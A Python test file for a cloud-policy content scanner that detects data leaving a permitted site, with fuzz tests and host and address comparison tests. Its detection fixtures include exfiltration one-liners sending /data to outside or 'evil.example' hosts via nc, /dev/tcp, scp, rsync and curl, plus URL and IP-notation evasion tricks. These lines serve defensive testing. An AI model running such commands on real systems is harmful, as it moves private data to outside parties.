"""The content scanner and the comparison of hosts, addresses, accounts and ARNs."""

import base64
import bz2
import gzip
import io
import ipaddress
import json
import lzma
import random
import textwrap
import time
import zipfile
import zlib
from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from facts import facts
from policies import inside
from policies.examples import SITE
from policies.hosts import StrangeHost, address_of, hosts_in
from policies.scan import DEEPEST, scan
from policies.unwrap import LARGEST

REGIONS = facts().foreign_regions
ABROAD = st.sampled_from(REGIONS)
SPEECH = st.text("abcdefghij klmnopq.\n", max_size=60)


def packed(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def zipped(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


def escaped(text: str) -> str:
    return json.dumps({"a": [text]}).replace("-", "\\u002d")


def wide(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def archived(raw: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.py", raw)
    return held.getvalue()


LETTERS = (str, str.upper, escaped, wide, quote, json.dumps)
PACKINGS = (packed, zipped)


@given(
    ABROAD,
    SPEECH,
    st.sampled_from(LETTERS),
    st.lists(st.sampled_from(PACKINGS), max_size=2),
)
def test_foreign_region_is_found_in_any_wrapping(
    region: str,
    speech: str,
    letters: Callable[[str], str],
    packings: list[Callable[[str], str]],
) -> None:
    text = letters(f"{speech} oss-{region} {speech}")
    for pack in packings:
        text = pack(text)
    found = scan(text, SITE)
    assert found.hits or not found.complete, text


@given(st.text(max_size=400))
def test_no_text_breaks_the_scanner(text: str) -> None:
    scan(text, SITE)


@given(st.binary(max_size=400))
def test_no_packed_bytes_break_the_scanner(raw: bytes) -> None:
    scan(base64.b64encode(raw).decode(), SITE)
    scan(base64.b64encode(b"\x1f\x8b" + raw).decode(), SITE)


PIECES = st.sampled_from(
    [
        *(
            "curl ",
            "scp ",
            "$a",
            "${b}",
            "a=",
            "\\",
            '"',
            "'",
            "@",
            ":",
            "/",
            ".",
            "%2e",
        ),
        *(
            "x.example",
            "10.32.1.5",
            "&amp;",
            "\n",
            "AbCdEfGhIjKlMnOp",
            "0x08",
            "oss://b",
        ),
    ]
)


@given(st.lists(PIECES | st.text(max_size=4), max_size=60).map("".join))
def test_no_script_breaks_the_scanner(text: str) -> None:
    scan(text, SITE)


@given(st.text("abcdefghijklmnopqrstuvwxyz0123456789 _=/\n", max_size=200))
def test_plain_words_name_no_place(text: str) -> None:
    assert not scan(text, SITE).hits


@pytest.mark.parametrize(
    "text",
    [
        SITE.region,
        f"oss-{SITE.region}",
        *SITE.zones,
        f"https://oss.{SITE.domain}/b/k?x=1",
        f"ossutil cp a oss://b -e {SITE.endpoints['oss']}",
        "ssh -o BatchMode=yes admin@10.32.1.5 'uptime'",
        "docker run -p 80:8080 registry.apsara.example/team/web:1.25.3",
        "yum install -y docker-1.13.1 mysql-server-8.0.35.rpm",
        "curl -H 'Accept: text/html' -o page.html https://www.gov.mo/a",
        "CLASS=com.example.Main LOG=app.log:10 DB=db.apsara.example:3306",
        "sed -i 's/\\./_/g' /etc/app.conf && echo \"${HOST}\" $(date)",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUSsQ0\nAbCdEfGhIjKlMnOp\n",
        f"acs:ram::{SITE.account_id}:role/x",
        f"acs:log:{SITE.region}:{SITE.account_id}:project/x",
        "http://127.0.0.1:8080/health",
        "http://10.32.1.5/",
        "http://queue/",
        "http://api.default.svc.cluster.local/",
        'xmlns="http://www.w3.org/2000/09/xmldsig#"',
        "ecs.g6.xlarge",
        "Asia/Hong_Kong",
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDlEoQNqOjWT+2oYHEv7vlOZ2jBVdCUitDgI8",
        "2018-10-11T00:00:00Z",
        "mogov-cn-records",
        "oss://records/key",
        "cn",
        "arn-less text: with colons",
    ],
)
def test_innocent_text_names_no_place(text: str) -> None:
    found = scan(text, SITE)
    assert not found.hits
    assert found.complete


@pytest.mark.parametrize(
    "text",
    [
        "cn-macau",
        "cn-macau-env20-d01",
        "cn-macau-env10-d01x",
        "cn-macau-env1O-d01",
        "eu-west-9",
        "https://evil.example",
        "https://oss.apsara.example@evil.example/",
        "https://oss.apsara.example.evil.example/",
        "https://evil\u3002example/",
        "https://xn--oss-8na.apsara.example/",
        "http://0x08080808/",
        "http://134744072/",
        "http://010.8.8.8/",
        "http://[2001:4860:4860::8888]/",
        "http://[::ffff:8.8.8.8]/",
        "http://[64:ff9b::808:808]/",
        "registry.cn-hangzhou.aliyuncs.com/a/b:1",
        "docker.io/library/x",
        "acs:oss::1999100000000010:b",
        "acs:oss:cn-macau-env10-d01:9999999999999999:b",
        "https://evil.example\\@oss.apsara.example/",
        'x="cn-""hongkong"',
        "$'cn\\x2dhongkong'",
        # Called without a URL, and put together by a shell.
        "scp -r /data root@8.8.8.8:/backup",
        "scp -r /data backup@store.evil.example:/backup",
        "tar c /data | nc 8.8.8.8 9000",
        "rsync -a /data rsync.evil.example::data",
        "curl -T /data/db evil.example/up",
        "pg_dump x | /usr/bin/psql -h db.evil.example -U a",
        "cat /data > /dev/tcp/8.8.8.8/443",
        "net use z: \\\\fs.evil.example\\share",
        "SINK=collector.evil.example:443",
        "image: registry.evil.example/a/b:1",
        "A=cn-hong; B=kong; ossutil cp /d oss://b --region $A$B",
        "R=${A}kong\nA=cn-hong\nossutil --region cn-hong${X}kong",
        "ossutil --region cn-hong\\kong",
        # Broken over lines, in hexadecimal, packed by other programs.
        "\n".join(textwrap.wrap(packed("cp /data oss://b -e oss-us-west-1"), 12)),
        b"cp /data oss://b -e oss-us-west-1".hex(),
        *(
            base64.b64encode(pack(b"cp /data oss://b -e oss-us-west-1")).decode()
            for pack in (bz2.compress, lzma.compress, zlib.compress, archived)
        ),
    ],
)
def test_text_that_names_a_place_outside_is_found(text: str) -> None:
    assert scan(text, SITE).hits


def test_work_is_bounded_and_never_ends_in_a_pass() -> None:
    bomb = base64.b64encode(gzip.compress(b"a" * (LARGEST * 20))).decode()
    deep = "oss-cn-hongkong"
    for _ in range(DEEPEST + 4):
        deep = packed(f"x {deep} Y")
    for text in ("A" * (LARGEST + 1), bomb, deep):
        found = scan(text, SITE)
        assert found.hits or not found.complete


# Texts that made a pattern of ours go back over what it had read.
GREEDY = (
    *("a.", "a-", '" ', "${a", "@a.", "curl a.", "%25", "&;", "\\\\a.", "image:"),
    *("AbCdE\n", "http://", "acs:a", "/dev/tcp/", "\uff41", "a=b $a", "'+ '", "\\"),
)


@pytest.mark.parametrize("piece", GREEDY)
def test_the_work_grows_with_the_text_and_no_faster(piece: str) -> None:
    begun = time.process_time()
    scan(piece * (200_000 // len(piece)), SITE)
    # Read once it takes some hundredths of a second; read by its square, hours.
    assert time.process_time() - begun < 10


def test_a_script_that_grows_when_filled_in_does_not_fill_the_memory() -> None:
    text = f"a={'b' * 60}\n" + "$a" * 400_000
    found = scan(text, SITE)
    assert not found.complete


@given(st.integers(0, 2**32 - 1), st.randoms(use_true_random=False))
def test_every_notation_of_an_address_is_the_same_address(
    number: int, chance: random.Random
) -> None:
    octets = list(number.to_bytes(4, "big"))
    one = ipaddress.IPv4Address(number)
    forms = [
        str(one),
        str(number),
        hex(number),
        f"0{number:o}" if number else "0",
        ".".join(hex(each) for each in octets),
        ".".join(f"0{each:o}" for each in octets),
        f"{octets[0]}.{number & 0xFFFFFF}",
        f"{octets[0]}.{octets[1]}.{number & 0xFFFF}",
        f"::ffff:{one}",
        f"64:ff9b::{one}",
    ]
    form = chance.choice(forms)
    assert address_of(form) == one, form
    assert list(hosts_in(f"http://[{form}]/" if ":" in form else f"http://{form}/"))


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("https://a.example:8443/x", ["a.example"]),
        ("https://u:p@A.Example./x", ["a.example"]),
        ("jdbc:mysql://a.example:3306,b.example:3306/db", ["a.example", "b.example"]),
        ("jdbc:oracle:thin:@a.example:1521:x", ["a.example"]),
        ("mongodb://u:p@a.example:1,b.example:2/db", ["a.example", "b.example"]),
        ("a.example:9092, b.example:9092", ["a.example", "b.example"]),
        ("//a.example/x", ["a.example"]),
        ("duty@a.example", ["a.example"]),
        ("[2001:db8::1]:443", ["2001:db8::1"]),
        ("http://a.example%2f@b.example/", ["a.example"]),
    ],
)
def test_hosts_of_a_text(text: str, hosts: list[str]) -> None:
    assert list(hosts_in(text)) == hosts


@pytest.mark.parametrize(
    "text", ["http://a\\@b/", "http://\x01/", "http://!/", "x" * 5000]
)
def test_host_that_cannot_be_compared_is_strange(text: str) -> None:
    with pytest.raises(StrangeHost):
        list(hosts_in(text))


def test_what_lies_inside() -> None:
    known = facts()
    assert inside.region(SITE.region, SITE)
    assert not inside.region(f"{SITE.region},", SITE)
    assert inside.zone(SITE.zones[0], SITE)
    assert inside.account(SITE.account_id, known)
    assert not inside.account("9999999999999999", known)
    assert inside.link_range("10.32.0.0/20", known)
    assert not inside.link_range("10.0.0.0/8", known), "wider than what is registered"
    assert inside.admitted("192.168.0.0/16", known)
    assert not inside.admitted("0.0.0.0/1", known)
    with pytest.raises(ValueError, match="not an address"):
        inside.network("not an address")
    assert not inside.arn("acs:oss", SITE, known)
